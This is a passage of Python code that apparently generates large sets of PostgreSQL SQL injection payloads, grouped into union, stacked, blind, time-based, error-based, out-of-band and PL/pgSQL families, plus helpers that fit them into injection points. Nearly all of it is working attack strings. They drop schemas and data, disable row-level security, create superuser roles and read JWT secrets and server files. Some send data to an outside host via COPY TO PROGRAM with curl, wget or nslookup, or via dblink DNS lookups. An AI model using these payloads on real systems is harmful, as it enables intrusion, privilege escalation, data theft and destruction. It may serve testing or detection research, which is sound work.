            ("or_st_intersects_wkt", "OR ST_Intersects('POINT(1 1)'::geometry, 'POLYGON((0 0,0 %d,%d %d,%d 0,0 0))'::geometry)" % (a, a, a, a)),
            ("or_envelope_overlap", "OR ST_MakeEnvelope(0, 0, %d, %d) && ST_MakeEnvelope(1, 1, %d, %d)" % (a, a, b, b)),
            ("or_knn_distance_zero", "OR ST_MakePoint(%d, %d) <-> ST_MakePoint(%d, %d) = 0" % (a, b, a, b)),
            ("or_hstore_has_key", "OR 'k%d=>v'::hstore ? 'k%d'" % (a, a)), ("or_hstore_contains", "OR '%s=>1, z=>2'::hstore @> '%s=>1'" % (w, w)),
            ("or_hstore_fetch_eq", "OR ('%s=>%d'::hstore -> '%s') = '%d'" % (w, a, w, a)),
            ("or_ltree_descendant", "OR '%s.%s'::ltree <@ '%s'" % (w, w2, w)), ("or_ltree_lquery_match", "OR 'a.%s.z'::ltree ~ '*.%s.*'" % (w, w)),
            ("or_ltree_nlevel", "OR nlevel('%s.%s.x') = 3" % (w, w2)), ("or_citext_case_fold", "OR '%s'::citext = '%s'" % (w.upper(), w)),
            ("or_tsquery_match", "OR to_tsvector('simple', '%s') @@ '%s'::tsquery" % (w, w)),
            ("or_websearch_match", "OR to_tsvector('simple', '%s %s') @@ websearch_to_tsquery('simple', '%s')" % (w, w2, w2)),
            ("or_jsonpath_exists_op", "OR '{\"%s\": %d}'::jsonb @? '$.%s'" % (w, a, w)), ("or_jsonpath_match_op", "OR '{\"n\": %d}'::jsonb @@ '$.n > %d'" % (b, a)),
            ("or_time_bucket_past", "OR time_bucket('1 hour', now()) <= now()"), ("or_generate_subscripts_in", "OR 1 IN (SELECT generate_subscripts(ARRAY[%d, %d], 1))" % (a, b)),
            ("or_filter_count_one", "OR (SELECT count(*) FILTER (WHERE true) FROM (VALUES (%d)) v(x)) = 1" % a),
            ("or_grouping_zero", "OR (SELECT GROUPING(x) FROM (VALUES (%d)) v(x) GROUP BY x) = 0" % a),
            ("or_int_array_overlap", "OR '{%d,%d}'::int[] && '{%d}'::int[]" % (a, b, a)), ("or_numeric_cast_eq", "OR %d.0 = %d::numeric" % (a, a)),
            ("or_exists_pg_class", "OR EXISTS (SELECT FROM pg_class)"), ("or_not_false", "OR NOT false"),
            ("or_session_user_not_null", "OR session_user IS NOT NULL")]] + [
            (n, "open", c, PG) for n, c in [
                ("open_trgm_similar", ("OR '%s' %% " % w, "'%s" % w)), ("open_ltree_match", ("OR 'x.%s'::ltree ~ " % w, "'*.%s" % w)),
                ("open_hstore_key", ("OR '%s=>1'::hstore ? " % w, "'%s" % w)), ("open_jsonpath_exists", ("OR '{\"%s\": 1}'::jsonb @? " % w, "'$.%s" % w)),
                ("open_citext_eq", ("OR '%s'::citext = " % w.upper(), "'%s" % w)), ("open_ilike_self", ("OR '%s' ILIKE " % w, "'%s" % w.upper())),
                ("open_ne_empty", ("OR '%s' <> " % w, "'"))]]
    if fam == "union":
        n = r.randint(1, 6)
        pos = r.randrange(n)
        arms = [("extensions", "extname||' '||extversion", " FROM pg_extension"), ("cron_commands", "jobname||': '||command", " FROM cron.job"),
                ("cron_run_details", "command||' '||status", " FROM cron.job_run_details"), ("stat_statements", "left(query, 200)", " FROM pg_stat_statements"),
                ("hasura_metadata", "metadata::text", " FROM hdb_catalog.hdb_metadata"),
                ("hypertables", "hypertable_schema||'.'||hypertable_name", " FROM timescaledb_information.hypertables"),
                ("timescale_jobs", "proc_name||' '||coalesce(config::text,'')", " FROM timescaledb_information.jobs"),
                ("geometry_columns", "f_table_name||'.'||f_geometry_column", " FROM geometry_columns"),
                ("rls_policies", "tablename||' '||policyname||' '||coalesce(qual,'')", " FROM pg_policies"), ("bypassrls_roles", "rolname", " FROM pg_roles WHERE rolbypassrls"),
                ("hba_rules", "type||' '||coalesce(address,'')||' '||auth_method", " FROM pg_hba_file_rules"),
                ("ident_mappings", "map_name||' '||sys_name||' '||pg_username", " FROM pg_ident_file_mappings"),
                ("foreign_servers", "srvname||' '||array_to_string(srvoptions,',')", " FROM pg_foreign_server"),
                ("user_mappings", "srvname||' '||array_to_string(umoptions,',')", " FROM pg_user_mappings"),
                ("prepared_statements", "name||': '||statement", " FROM pg_prepared_statements"), ("replication_slots", "slot_name||' '||slot_type", " FROM pg_replication_slots"),
                ("wal_receiver", "conninfo", " FROM pg_stat_wal_receiver"), ("available_extensions", "name||' '||default_version", " FROM pg_available_extensions WHERE installed_version IS NULL"),
                ("largeobject_owners", "oid::text||' '||lomowner::regrole::text", " FROM pg_largeobject_metadata"), ("loot_pair", "%s||'/'||%s" % (u, p), " FROM %s" % t),
                ("jwt_setting", "current_setting('pgrst.jwt_secret', true)", ""), ("config_file_settings", "name||'='||setting", " FROM pg_settings WHERE source = 'configuration file'"),
                ("postgis_version", "postgis_full_version()", ""), ("vector_rows", "%s::text" % vc, " FROM %s" % vt), ("geometry_rows", "ST_AsText(%s)" % gc, " FROM %s" % gt)]
        name, ex, frm = r.choice(arms)
        style = r.randrange(6)
        if style == 0:
            return [("union_paren_arm_" + name, "union", "UNION ALL (SELECT %s%s LIMIT 1)" % (nulls(n, pos, ex), frm), PG)]
        if style == 1:
            return [("union_select_distinct_" + name, "union", "UNION SELECT DISTINCT %s%s" % (nulls(n, pos, ex), frm), PG)]
        if style == 2:
            return [("union_fetch_first_" + name, "union", "UNION ALL SELECT %s%s FETCH FIRST %d ROWS ONLY" % (nulls(n, pos, ex), frm, r.randint(1, 20)), PG)]
        if style == 3:
            return [("union_order_desc_" + name, "union", "UNION SELECT %s%s ORDER BY %d DESC" % (nulls(n, pos, ex), frm, pos + 1), PG)]
        kw = r.choice(["UNION ALL SELECT", "Union All Select", "UNION ALL\tSELECT", "UNION\nALL SELECT", "union select"])
        return [("union_arm_" + name, "union", "%s %s%s" % (kw, nulls(n, pos, ex), frm), PG)]
    if fam == "stacked":
        return [(n, "stack", c, PG) for n, c in [
            ("cron_schedule_delete", "SELECT cron.schedule('%s', '*/1 * * * *', 'DELETE FROM %s')" % (nm, t)),
            ("cron_schedule_superuser", "SELECT cron.schedule_in_database('%s', '*/5 * * * *', 'ALTER ROLE %s SUPERUSER', 'postgres')" % (nm, role)),
            ("cron_job_command_rewrite", "UPDATE cron.job SET command = 'DROP SCHEMA public CASCADE'"), ("cron_unschedule_all", "SELECT cron.unschedule(jobid) FROM cron.job"),
            ("cron_sleep_every_minute", "SELECT cron.schedule('* * * * *', 'SELECT pg_sleep(58)')"),
            ("drop_extension_postgis", "DROP EXTENSION IF EXISTS postgis CASCADE"), ("drop_extension_vector", "DROP EXTENSION vector CASCADE"),
            ("create_extension_pg_cron", "CREATE EXTENSION IF NOT EXISTS pg_cron"), ("timescale_drop_chunks", "SELECT drop_chunks('%s', older_than => now())" % r.choice(["chip_crossings", "ice_thickness_readings", "trap_detections"])),
            ("timescale_remove_retention", "SELECT remove_retention_policy('%s')" % r.choice(["chip_crossings", "ice_thickness_readings"])),
            ("truncate_restart_cascade", "TRUNCATE %s RESTART IDENTITY CASCADE" % t), ("null_embeddings", "UPDATE %s SET %s = NULL" % (vt, vc)),
            ("drop_embedding_column", "ALTER TABLE %s DROP COLUMN %s" % (vt, vc)), ("spatial_ref_sys_wipe", "DELETE FROM spatial_ref_sys"),
            ("spatial_ref_sys_proj_blank", "UPDATE spatial_ref_sys SET proj4text = '' WHERE srid = 4326"),
            ("role_bypassrls_login", "CREATE ROLE %s WITH LOGIN BYPASSRLS PASSWORD '%s'" % (nm, rword(r, 12))), ("alter_role_bypassrls", "ALTER ROLE %s BYPASSRLS" % role),
            ("disable_rls", "ALTER TABLE %s DISABLE ROW LEVEL SECURITY" % t), ("permissive_policy", "CREATE POLICY %s ON %s FOR ALL TO PUBLIC USING (true) WITH CHECK (true)" % (nm, t)),
            ("alter_policy_true", "ALTER POLICY %s_isolation ON %s USING (true)" % (t, t)), ("grant_signal_backend", "GRANT pg_signal_backend TO PUBLIC"),
            ("set_role_database_owner", "SET ROLE pg_database_owner"), ("drop_owned_by", "DROP OWNED BY %s CASCADE" % role),
            ("postgrest_reload_schema", "NOTIFY pgrst, 'reload schema'"), ("postgrest_expose_catalog", "ALTER ROLE authenticator SET pgrst.db_schemas = 'public, pg_catalog'; NOTIFY pgrst, 'reload config'"),
            ("hasura_metadata_wipe", "UPDATE hdb_catalog.hdb_metadata SET metadata = '{\"version\": 3, \"sources\": []}'"), ("drop_hdb_catalog", "DROP SCHEMA hdb_catalog CASCADE"),
            ("operator_hijack_trgm", "CREATE OPERATOR public.%% (LEFTARG = text, RIGHTARG = text, FUNCTION = texteq)"),
            ("listen_then_notify", "NOTIFY %s, '%s'" % (r.choice(["peal_board_york", "pgrst", "lookout_alerts"]), w)),
            ("advisory_lock_catalog", "SELECT pg_advisory_lock(hashtext(relname)) FROM pg_class"),
            ("revoke_public_usage", "REVOKE USAGE ON SCHEMA public FROM %s" % role), ("rename_table", "ALTER TABLE %s RENAME TO %s_old" % (t, t))]]
    if fam == "boolean_blind":
        pn, pe = probe_named(r)
        pn2, pe2 = probe_named(r, "(SELECT %s FROM %s WHERE %s = '%s')" % (p, t, u, who))
        return [("and_" + pn, "cond", "AND " + pe, PG), ("or_" + pn, "cond", "OR " + pe, PG), ("login_" + pn2, "cond", "AND " + pe2, PG)] + [
            (n, "cond", c, PG) for n, c in [
                ("read_file_exec_priv", "AND has_function_privilege('pg_read_file(text)', 'EXECUTE')"), ("cron_schema_usage", "AND has_schema_privilege('cron', 'USAGE')"),
                ("database_create_priv", "AND has_database_privilege(current_database(), 'CREATE')"),
                ("member_write_files", "AND pg_has_role('pg_write_server_files', 'MEMBER')"), ("cron_job_insert_priv", "AND has_table_privilege('cron.job', 'INSERT')"),
                ("authid_password_column", "AND has_column_privilege('pg_authid', 'rolpassword', 'SELECT')"),
                ("plpython_usage", "AND has_language_privilege('plpython3u', 'USAGE')"), ("shadow_any_column", "AND has_any_column_privilege('pg_shadow', 'SELECT')"),
                ("alter_system_parameter_priv", "AND has_parameter_privilege('shared_preload_libraries', 'ALTER SYSTEM')"),
                ("fdw_usage", "AND has_foreign_data_wrapper_privilege('postgres_fdw', 'USAGE')"),
                ("pg_cron_installed", "AND EXISTS (SELECT 1 FROM pg_extension WHERE extname = 'pg_cron')"),
                ("vector_version_cmp", "AND (SELECT extversion FROM pg_extension WHERE extname = 'vector') >= '0.%d.0'" % r.randint(4, 8)),
                ("postgis_lib_3", "AND postgis_lib_version() LIKE '3.%'"), ("cron_db_is_current", "AND current_setting('cron.database_name', true) = current_database()"),
                ("cron_jobs_present", "AND (SELECT count(*) FROM cron.job) > %d" % r.randint(0, 5)),
                ("pgrst_schemas_set", "AND current_setting('pgrst.db_schemas', true) IS NOT NULL"),
                ("self_bypassrls", "AND (SELECT rolbypassrls FROM pg_roles WHERE rolname = current_user)"),
                ("hba_trust_rule", "AND EXISTS (SELECT 1 FROM pg_hba_file_rules WHERE auth_method = 'trust')")]]
    if fam == "time_pg_sleep":
        pe = probe(r)
        return [
            ("trgm_heavy_series", "cond", "AND (SELECT count(*) FROM generate_series(1, %d) g WHERE similarity(md5(g::text), '%s') > 0.9) >= 0" % (r.choice([300000, 800000]), w), PG),
            ("postgis_buffer_heavy", "cond", "AND (SELECT count(ST_Buffer(ST_MakePoint(g, g), 50, 256)) FROM generate_series(1, %d) g) > 0" % r.choice([60000, 150000]), PG),
            ("vector_norm_heavy", "cond", "AND (SELECT sum(vector_norm(array_fill(g::real, ARRAY[2000])::vector)) FROM generate_series(1, %d) g) > 0" % r.choice([40000, 90000]), PG),
            ("tsvector_heavy", "cond", "AND (SELECT count(*) FROM generate_series(1, %d) g WHERE to_tsvector('english', repeat('ringing bells ', 40)) @@ 'bell') > 0" % r.choice([50000, 120000]), PG),
            ("time_bucket_heavy", "cond", "AND (SELECT count(DISTINCT time_bucket('1 second', now() - g * interval '1 ms')) FROM generate_series(1, %d) g) > 0" % r.choice([2000000, 5000000]), PG),
            ("sleep_make_interval", "cond", "AND pg_sleep_for(make_interval(secs => %d)) IS NULL" % s, PG),
            ("sleep_subselect_limit", "cond", "AND (SELECT 1 FROM pg_sleep(%d) LIMIT 1) = 1" % s, PG),
            ("sleep_void_text_or", "cond", "OR pg_sleep(%d)::text = ''" % s, PG),
            ("sleep_case_probe", "cond", "AND 1 = (SELECT CASE WHEN %s THEN (SELECT 1 FROM pg_sleep(%d)) ELSE 1 END)" % (pe, s), PG),
            ("repl_sleep_coalesce", "repl", "(SELECT coalesce(NULL, %d) FROM pg_sleep(%d))" % (a, s), PG),
            ("concat_sleep_void", "concat", "(SELECT pg_sleep(%d)::text)" % s, PG),
            ("order_sleep_case_probe", "order", "(CASE WHEN %s THEN (SELECT 1 FROM pg_sleep(%d)) END)" % (pe, s), PG),
            ("stack_sleep_plain", "stack", "SELECT pg_sleep(%d)" % s, PG),
            ("stack_lock_then_sleep", "stack", "BEGIN; LOCK TABLE %s IN EXCLUSIVE MODE; SELECT pg_sleep(%d)" % (t, s), PG),
            ("gist_point_distance_heavy", "cond", "AND (SELECT count(*) FROM generate_series(1, %d) x, generate_series(1, 500) y WHERE point(x, y) <-> point(0, 0) > 1) > 0" % r.choice([4000, 9000]), PG),
            ("cross_join_series", "cond", "AND (SELECT count(*) FROM generate_series(1, %d) x, generate_series(1, %d) y) > 0" % (r.choice([3000, 5000]), r.choice([3000, 5000])), PG),
            ("hstore_each_heavy", "cond", "AND (SELECT count(*) FROM generate_series(1, %d) g, each(hstore(ARRAY['a', g::text]))) > 0" % r.choice([400000, 900000]), PG)]
    if fam == "error_cast":
        pe = probe(r)
        x = "(%s)::text" % e
        return [(n, "cond", c, PG) for n, c in [
            ("vector_cast_leak", "AND %s::vector IS NULL" % x), ("vector_bracket_leak", "AND ('[' || %s || ']')::vector IS NULL" % x),
            ("geometry_cast_leak", "AND %s::geometry IS NULL" % x), ("geomfromtext_leak", "AND ST_GeomFromText(%s) IS NULL" % x),
            ("geomfromgeojson_leak", "AND ST_GeomFromGeoJSON(%s) IS NULL" % x), ("geography_cast_leak", "OR %s::geography IS NULL" % x),
            ("ltree_cast_leak", "AND %s::ltree IS NULL" % x), ("lquery_cast_leak", "AND %s::lquery IS NULL" % x), ("hstore_cast_leak", "AND %s::hstore IS NULL" % x),
            ("tsquery_cast_leak", "AND %s::tsquery IS NULL" % x), ("to_tsquery_leak", "AND to_tsquery('simple', %s) IS NULL" % x),
            ("jsonpath_cast_leak", "AND %s::jsonpath IS NULL" % x), ("timestamptz_cast_leak", "AND %s::timestamptz IS NULL" % x),
            ("inet_cast_leak", "AND %s::inet IS NULL" % x), ("cube_cast_leak", "AND %s::cube IS NULL" % x),
            ("time_bucket_interval_leak", "AND time_bucket(%s::interval, now()) IS NULL" % x), ("box2d_cast_leak", "AND %s::box2d IS NULL" % x),
            ("query_int_leak", "AND %s::query_int IS NULL" % x), ("pg_snapshot_leak", "AND %s::pg_snapshot IS NULL" % x),
            ("cond_vector_dim_mismatch", "AND (CASE WHEN %s THEN '[1,2]'::vector <-> '[1,2,3]'::vector ELSE 0 END) = 0" % pe),
            ("cond_srid_mismatch", "AND ST_Distance(ST_SetSRID(ST_MakePoint(0, 0), CASE WHEN %s THEN 3857 ELSE 4326 END), ST_SetSRID(ST_MakePoint(1, 1), 4326)) >= 0" % pe),
            ("cond_ltree_empty_label", "AND (CASE WHEN %s THEN 'a..b' ELSE 'a.b' END)::ltree IS NOT NULL" % pe),
            ("cond_hstore_bad_pair", "AND (CASE WHEN %s THEN '=>' ELSE 'a=>b' END)::hstore IS NOT NULL" % pe),
            ("cond_time_bucket_zero", "AND time_bucket(CASE WHEN %s THEN interval '0' ELSE interval '1 hour' END, now()) IS NOT NULL" % pe)]] + [
            ("order_geometry_leak", "order", "%s::geometry" % x, PG), ("repl_vector_dims_leak", "repl", "(SELECT vector_dims(%s::vector))" % x, PG),
            ("concat_ltree_leak", "concat", "%s::ltree::text" % x, PG)]
    if fam == "oob_file_program":
        b64 = base64.b64encode(("#!/bin/sh\n" + cmd + "\n").encode()).decode()
        plain = cmd.replace("'", "").replace('"', "")
        return [(n, m, c, PG) for n, m, c in [
            ("file_fdw_program", "stack", "CREATE EXTENSION IF NOT EXISTS file_fdw; CREATE SERVER %s FOREIGN DATA WRAPPER file_fdw; CREATE FOREIGN TABLE %s_out (line text) SERVER %s OPTIONS (program '%s')" % (nm, nm, nm, sq(cmd))),
            ("file_fdw_filename", "stack", "CREATE FOREIGN TABLE %s (line text) SERVER %s OPTIONS (filename '%s'); SELECT * FROM %s" % (nm, r.choice(["files", "file_server", "fs"]), f, nm)),
            ("copy_from_program_getent", "stack", "COPY %s FROM PROGRAM 'getent hosts $(whoami).%s'" % (t, host)),
            ("copy_to_program_wget_uid", "stack", "COPY (SELECT 1) TO PROGRAM 'wget -qO- http://%s/$(id -u)'" % host),
            ("copy_geojson_to_tmp", "stack", "COPY (SELECT ST_AsGeoJSON(%s) FROM %s) TO '/tmp/%s.json'" % (gc, gt, nm)),
            ("copy_vectors_to_program", "stack", "COPY (SELECT %s::text FROM %s) TO PROGRAM 'curl -sT - http://%s/v'" % (vc, vt, host)),
            ("lo_from_bytea_file", "stack", "SELECT lo_from_bytea(%d, pg_read_binary_file('%s'))" % (key, f)),
            ("lo_export_decoded_blob", "stack", "SELECT lo_export(lo_from_bytea(0, decode('%s', 'base64')), '/tmp/%s.sh')" % (b64, nm)),
            ("ls_dir_count", "cond", "AND (SELECT count(*) FROM pg_ls_dir('%s')) > 0" % r.choice(["/root", "/home", "/etc/ssl/private", "/var/lib/postgresql"])),
            ("read_file_like_probe", "cond", "AND pg_read_file('%s') LIKE '%%%s%%'" % (f, r.choice(["root", "password", "AKIA", "secret"]))),
            ("dblink_dns_hex_user", "cond", "AND (SELECT count(*) FROM dblink('host=' || encode(convert_to(current_user, 'UTF8'), 'hex') || '.%s user=x dbname=x', 'SELECT 1') AS r(x int)) > 0" % host),
            ("dblink_exec_remote", "stack", "SELECT dblink_exec('hostaddr=%s port=5432 user=x password=x dbname=x', 'CREATE TABLE %s (v text)')" % (ip, nm)),
            ("copy_program_nslookup_host", "stack", "COPY (SELECT '') TO PROGRAM 'nslookup $(hostname).%s'" % host),
            ("stat_file_size", "cond", "AND (pg_stat_file('%s')).size > 0" % f),
            ("lo_import_then_get", "stack", "SELECT lo_import('%s', %d); SELECT encode(lo_get(%d), 'escape')" % (f, key, key)),
            ("union_read_binary", "union", "UNION ALL SELECT encode(pg_read_binary_file('%s'), 'escape')" % f),
            ("union_ls_dir", "union", "UNION ALL SELECT pg_ls_dir('%s')" % r.choice(["/etc", "/tmp", "pg_wal", "log"])),
            ("concat_ls_dir", "concat", "(SELECT string_agg(d, ',') FROM pg_ls_dir('/etc') AS d)"),
            ("copy_program_tar_curl", "stack", "COPY (SELECT 1) TO PROGRAM 'tar czf - /etc/postgresql | curl -sT - http://%s/'" % host),
            ("restore_command_fetch", "stack", "ALTER SYSTEM SET restore_command = 'curl -s http://%s/%%f -o %%p'; SELECT pg_reload_conf()" % host),
            ("geojson_file_leak", "cond", "AND ST_GeomFromGeoJSON(pg_read_file('%s')) IS NULL" % f),
            ("copy_from_program_base64", "stack", "CREATE TEMP TABLE %s (l text); COPY %s FROM PROGRAM 'base64 -w0 %s'" % (nm, nm, f)),
            ("copy_program_plain_cmd", "stack", "COPY (SELECT '') TO PROGRAM '%s'" % plain)]]
    if fam == "plpgsql_do_exec":
        tg = r.choice(DO_TAGS)
        B = lambda body: tg + " " + body + " " + tg
        safe_cmd = r.choice(["id", "uname -a", "env", "ls -la /root", "crontab -l", "cat /etc/passwd"])
        return [(n, "stack", c, PG) for n, c in [
            ("do_cron_schedule_superuser", "DO %s" % B("BEGIN PERFORM cron.schedule('%s', '*/10 * * * *', 'ALTER ROLE %s SUPERUSER'); END" % (nm, role))),
            ("do_format_create_extension", "DO %s" % B("BEGIN EXECUTE format('CREATE EXTENSION IF NOT EXISTS %%I', '%s'); END" % r.choice(["dblink", "file_fdw", "plpython3u", "adminpack"]))),
            ("hijack_public_similarity", "CREATE OR REPLACE FUNCTION public.similarity(text, text) RETURNS real LANGUAGE plpgsql AS %s" % B("BEGIN PERFORM pg_notify('%s', $1); RETURN 1; END" % nm)),
            ("hijack_public_st_dwithin", "CREATE OR REPLACE FUNCTION public.st_dwithin(geometry, geometry, float8) RETURNS boolean LANGUAGE sql AS %s" % B("SELECT true")),
            ("do_loop_notify_loot", "DO %s" % B("DECLARE r record; BEGIN FOR r IN SELECT %s, %s FROM %s LOOP PERFORM pg_notify('%s', r.%s || ':' || r.%s); END LOOP; END" % (u, p, t, nm, u, p))),
            ("secdef_search_path_grant", "CREATE FUNCTION %s() RETURNS void LANGUAGE plpgsql SECURITY DEFINER SET search_path = public AS %s; GRANT EXECUTE ON FUNCTION %s() TO PUBLIC" % (
                nm, B("BEGIN EXECUTE 'GRANT pg_read_server_files TO ' || quote_ident(session_user); END"), nm)),
            ("do_execute_copy_program", "DO %s" % B("BEGIN EXECUTE 'COPY (SELECT 1) TO PROGRAM ' || quote_literal('%s'); END" % sq(safe_cmd))),
            ("do_dns_exfil_hex", "DO %s" % B("DECLARE v text; BEGIN SELECT %s INTO v FROM %s LIMIT 1; EXECUTE format('COPY (SELECT 1) TO PROGRAM %%L', 'nslookup ' || encode(convert_to(v, 'UTF8'), 'hex') || '.%s'); END" % (p, t, host))),
            ("do_raise_exception_leak", "DO %s" % B("BEGIN RAISE EXCEPTION '%%', (SELECT string_agg(%s, ',') FROM %s); END" % (p, t))),
            ("event_trigger_on_ddl", "CREATE FUNCTION %s() RETURNS event_trigger LANGUAGE plpgsql AS %s; CREATE EVENT TRIGGER %s ON ddl_command_end EXECUTE FUNCTION %s()" % (
                nm, B("BEGIN PERFORM pg_notify('%s', tg_tag); END" % nm), nm, nm)),
            ("plperlu_backticks", "DO LANGUAGE plperlu %s" % B("my $out = `%s`; elog(NOTICE, $out);" % safe_cmd)),
            ("plpython_subprocess", "CREATE FUNCTION %s() RETURNS text LANGUAGE plpython3u AS %s; SELECT %s()" % (nm, B("import subprocess; return subprocess.check_output('%s', shell=True).decode()" % safe_cmd), nm)),
            ("do_disable_rls_all", "DO %s" % B("DECLARE t text; BEGIN FOR t IN SELECT tablename FROM pg_tables WHERE schemaname = 'public' LOOP EXECUTE format('ALTER TABLE %%I DISABLE ROW LEVEL SECURITY', t); END LOOP; END")),
            ("do_timescale_drop_all_chunks", "DO %s" % B("BEGIN PERFORM drop_chunks(format('%%I.%%I', hypertable_schema, hypertable_name)::regclass, now()) FROM timescaledb_information.hypertables; END")),
            ("procedure_batched_delete", "CREATE PROCEDURE %s() LANGUAGE plpgsql AS %s; CALL %s()" % (
                nm, B("BEGIN LOOP DELETE FROM %s WHERE ctid IN (SELECT ctid FROM %s LIMIT 500); EXIT WHEN NOT FOUND; COMMIT; END LOOP; END" % (t, t)), nm)),
            ("do_vector_zero_out", "DO %s" % B("BEGIN EXECUTE format('UPDATE %%I SET %%I = NULL', '%s', '%s'); END" % (vt, vc))),
            ("sql_function_cron_wrapper", "CREATE FUNCTION %s(text) RETURNS bigint LANGUAGE sql SECURITY DEFINER AS %s; SELECT %s('DROP TABLE %s')" % (
                nm, B("SELECT cron.schedule('* * * * *', $1)"), nm, t))]]
    if fam == "dollar_quote":
        tg = r.choice(OPEN_TAGS)
        D = lambda v: tg + v + tg
        return [
            ("ltree_dollar_descendant", "cond", "OR %s::ltree <@ %s" % (D("%s.%s" % (w, w2)), D(w)), PG),
            ("vector_dollar_zero", "cond", "OR %s::vector <-> %s::vector = 0" % (D("[%d,%d]" % (a, b)), D("[%d,%d]" % (a, b))), PG),
            ("hstore_dollar_key", "cond", "OR %s::hstore ? %s" % (D("%s=>1" % w), D(w)), PG), ("trgm_dollar_similar", "cond", "OR %s %% %s" % (D(w), D(w)), PG),
            ("jsonpath_dollar_exists", "cond", "OR %s::jsonb @? %s" % (D('{"%s": 1}' % w), D("$.%s" % w)), PG),
            ("cron_dollar_job", "stack", "SELECT cron.schedule(%s, %s)" % (D("*/5 * * * *"), D("DELETE FROM %s" % t)), PG),
            ("union_dollar_label", "union", "UNION ALL SELECT %s || current_user" % D(w + ":"), PG),
            ("copy_program_dollar", "stack", "COPY (SELECT 1) TO PROGRAM %s" % D(cmd), PG), ("read_file_dollar", "stack", "SELECT pg_read_file(%s)" % D(f), PG),
            ("create_role_dollar_password", "stack", "CREATE ROLE %s LOGIN SUPERUSER PASSWORD %s" % (nm, D(rword(r, 10))), PG),
            ("geomfromtext_dollar_leak", "cond", "AND ST_GeomFromText(%s || (%s)::text) IS NULL" % (D("POINT("), e), PG),
            ("concat_dollar_setting", "concat", "%s || current_setting('data_directory')" % D("dir="), PG),
            ("repl_dollar_length", "repl", "(SELECT length(%s))" % D(w), PG), ("tsquery_dollar_match", "cond", "OR to_tsvector(%s) @@ to_tsquery(%s)" % (D(w), D(w)), PG),
            ("empty_dollar_ne", "cond", "OR %s <> $$$$" % D(w), PG), ("notify_dollar_payload", "stack", "NOTIFY %s, %s" % (nm, D(w)), PG)]
    if fam == "e_escape":
        o3 = lambda v: "".join("\\%03o" % ord(c) for c in v)
        HX = lambda v: "".join(r.choice([c if c.isalnum() else "\\x%02X" % ord(c), "\\x%02X" % ord(c)]) for c in v)
        u4 = lambda v: "".join("\\u%04x" % ord(c) for c in v)
        uni = lambda v: "".join("\\%04X" % ord(c) for c in v)
        return [
            ("e_hex_trgm_similar", "cond", "OR E'%s' %% '%s'" % (HX(w), w), PG), ("e_unicode_ltree_descendant", "cond", "OR E'%s'::ltree <@ 'a'" % u4("a." + w), PG),
            ("e_octal_read_file", "stack", "SELECT pg_read_file(E'%s')" % o3(f), PG), ("e_upper_hex_program", "stack", "COPY (SELECT 1) TO PROGRAM E'%s'" % HX(cmd), PG),
            ("e_backslash_quote_eq", "cond", "OR E'%s\\'%s' = '%s''%s'" % (w, w2, w, w2), PG), ("e_newline_union_hba", "union", "UNION ALL SELECT E'\\n' || current_setting('hba_file')", PG),
            ("uamp_hstore_key", "cond", "OR 'k=>1'::hstore ? U&'\\006B'", PG), ("uamp_ident_cron_job", "stack", "DELETE FROM U&\"\\0063ron\".job", PG),
            ("uamp_function_similarity", "cond", "OR U&\"\\0073imilarity\"('%s', '%s') = 1" % (w, w), PG),
            ("e_octal_vector_literal", "cond", "OR E'[\\06%d,\\06%d]'::vector <-> '[%d,%d]' = 0" % (a % 8, b % 8, a % 8, b % 8), PG),
            ("unistr_read_file", "stack", "SELECT pg_read_file(unistr('%s'))" % uni(f), PG),
            ("e_like_escaped_percent", "cond", "OR '%s%%' LIKE E'%s\\\\%%'" % (w, w), PG),
            ("e_octal_quote_concat", "concat", "E'\\042' || session_user || E'\\042'", PG),
            ("uamp_role_password", "stack", "ALTER ROLE %s PASSWORD U&'%s'" % (role, uni(rword(r, 8))), PG)]
    if fam == "string_concat_subquery":
        return [(n, "concat", c, PG) for n, c in [
            ("cron_commands_agg", "(SELECT string_agg(command, ';') FROM cron.job)"), ("geometry_astext", "(SELECT ST_AsText(%s) FROM %s LIMIT 1)" % (gc, gt)),
            ("embedding_text", "(SELECT %s::text FROM %s LIMIT 1)" % (vc, vt)), ("top_statement", "(SELECT query FROM pg_stat_statements ORDER BY calls DESC LIMIT 1)"),
            ("hstore_of_loot_row", "(SELECT hstore(x)::text FROM %s x LIMIT 1)" % t), ("hstore_keys_of_row", "(SELECT array_to_string(akeys(hstore(x)), ',') FROM %s x LIMIT 1)" % t),
            ("postgis_full_version", "postgis_full_version()"), ("extension_list", "(SELECT string_agg(extname, ',') FROM pg_extension)"),
            ("hasura_metadata", "(SELECT metadata::text FROM hdb_catalog.hdb_metadata LIMIT 1)"), ("pgrst_jwt_secret", "current_setting('pgrst.jwt_secret', true)"),
            ("app_jwt_secret", "current_setting('app.settings.jwt_secret', true)"), ("loot_secret", "(SELECT %s FROM %s WHERE %s = '%s')" % (p, t, u, who)),
            ("json_agg_loot", "(SELECT json_agg(x)::text FROM %s x)" % t), ("roles_bypassrls", "(SELECT string_agg(rolname || ':' || rolbypassrls::text, ',') FROM pg_roles)"),
            ("foreign_server_options", "(SELECT string_agg(srvname || ' ' || array_to_string(srvoptions, ' '), ';') FROM pg_foreign_server)"),
            ("client_addr_port", "inet_client_addr()::text || ':' || inet_client_port()"), ("probe_flag", "(CASE WHEN %s THEN 'y' ELSE 'n' END)" % probe(r))]]
    raise KeyError(fam)


# ---------------------------------------------------------------- putting a hand-written core into a slot
def ending(r):
    """How the rest of the statement is cut off (# and an open /*! are habits from other back-ends)."""
    return r.choice(["--", "--", "-- ", "--@", "--~", "-- .", "--%s" % rword(r, 2), ";--", "; --\t", "-- )", "--$", "/*!", "#"])


def kind_lead_in(knd, orig):
    """What a person types before the closing quote so the typed value stays well-formed: a jsonpath
    string is closed with \") first, a tsquery phrase with its double quote, an array literal with }."""
    if knd == "jpstr":
        return orig + '")'
    if knd == "tsq" and orig.count('"') % 2:
        return orig + '"'
    if knd == "arr":
        return orig + "}"
    return orig


def breakout(r, si, orig, mode, core):
    """What a person types into this slot to run core there, or None where the technique has no sensible form for the slot."""
    typ, cl, cut = si["type"], si["closers"], si["cut"]
    close_all = cut if cut is not None else cl
    inner = cl[:si["cond_k"]]
    sp = lambda: r.choice([" ", " ", "", "\t"])
    if mode in ("cond", "open") and not si["cond_ok"]:
        return None
    if si["lead"] in ("SET", "LISTEN", "COPY") and mode != "stack":
        return None                                    # these take a literal or a name, not an expression
    if mode == "union" and not union_fits(si):
        return None
    if typ in ("q", "e", "d"):
        qc = CLOSER[typ]
        lv = orig if typ == "d" else r.choice([kind_lead_in(si["kind"], orig)] * 3 + ["", "zz", "0"])
        if si["between_lo"] and mode in ("cond", "union", "stack"):
